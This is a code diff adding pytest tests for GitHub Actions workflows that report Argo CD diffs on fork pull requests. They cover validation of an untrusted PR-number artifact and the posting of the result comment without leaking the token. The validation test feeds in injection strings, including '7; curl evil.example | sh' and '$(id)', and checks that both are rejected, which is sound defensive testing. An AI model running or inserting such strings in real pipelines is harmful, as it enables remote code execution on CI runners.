@@ -5,7 +5,10 @@ checkout, the Argo CD simulator over HTTP and a mocked GitHub API."""
 from __future__ import annotations
 
 import json
+import os
 import re
+import shlex
+import subprocess
 import sys
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -419,3 +422,78 @@ def test_fork_pr_step_compares_offline_without_secrets_or_github(
     assert (runner.workspace / inputs["results-file"]).is_file()
     assert github.posted == []
     assert github.calls == 0, "the fork step must not talk to GitHub"
+
+
+def report_step(name: str) -> dict[str, Any]:
+    (job,) = workflow("argocd-diff-report.yaml")["jobs"].values()
+    (step,) = [s for s in job["steps"] if s.get("name") == name]
+    assert isinstance(step, dict)
+    return step
+
+
+@pytest.mark.parametrize(
+    ("artifact", "accepted"),
+    [("7\n", "7"), ("  42 ", "42"), ("7; curl evil.example | sh", None), ("0", None),
+     ("", None), ("1e3", None), ("99999999999", None), ("$(id)", None)],
+)  # fmt: skip
+def test_report_workflow_accepts_only_a_plain_pr_number(
+    tmp_path: Path, artifact: str, accepted: str | None
+) -> None:
+    """The fork's artifact is untrusted: its PR number is checked before anything uses it."""
+    step = report_step("Check the PR number from the artifact")
+    number_file = tmp_path / "argodiff-pr-number.txt"
+    number_file.write_text(artifact, encoding="utf-8")
+    output = tmp_path / "output"
+    output.write_text("")
+    env = {"PATH": "/usr/bin:/bin", "FILE": str(number_file), "GITHUB_OUTPUT": str(output)}
+    # GitHub runs `run:` steps with `bash -e {0}` by default.
+    result = subprocess.run(
+        ["bash", "-e", "-c", step["run"]], env=env, capture_output=True, text=True, check=False
+    )
+    if accepted is None:
+        assert result.returncode != 0
+        assert "::error::" in result.stdout
+        assert output.read_text() == ""
+    else:
+        assert result.returncode == 0, result.stderr
+        assert parse_outputs(output.read_text()) == {"number": accepted}
+
+
+@COMMENT_MARKER_BUG
+def test_fork_report_step_posts_the_artifact_results(
+    runner: Runner, github: GitHubApi, gitops_repo: GitOpsRepo, tmp_path: Path
+) -> None:
+    """Fork step 1 (render) then step 2 (argocd-diff-report.yaml's command line)."""
+    runner.env(
+        "pull_request", fork_event(gitops_repo), workflow_step_inputs("argocd-diff-fork.yaml", {})
+    )
+    rendered = runner.run()
+    assert rendered.exit_code == 0, rendered.log
+    results = Path(rendered.outputs["results-file"])
+
+    step = report_step("Post the comment")
+    run_env = {
+        "GITHUB_TOKEN": GITHUB_TOKEN,
+        "PR_NUMBER": str(NUMBER),
+        "HEAD_SHA": gitops_repo.pr,
+        "RESULTS": str(results),
+    }
+    assert set(step["env"]) == set(run_env)
+    event = {
+        "workflow_run": {"head_sha": gitops_repo.pr, "event": "pull_request", "pull_requests": []}
+    }
+    runner.env("workflow_run", event, {})
+    for key, value in run_env.items():
+        runner.monkeypatch.setenv(key, value)
+    for key in [k for k in os.environ if k.startswith("INPUT_")]:
+        runner.monkeypatch.delenv(key)  # a `run:` step has no action inputs
+    argv = shlex.split(os.path.expandvars(step["run"]))
+    runner.monkeypatch.setattr(sys, "argv", argv)
+    with pytest.raises(SystemExit) as exit_info:
+        main()
+
+    assert exit_info.value.code in (0, 1)  # no error; 1 means "there is a diff"
+    assert len(github.posted) == 1
+    (body,) = github.posted
+    assert "web" in body and "nginx:1.28" in body
+    assert GITHUB_TOKEN not in body
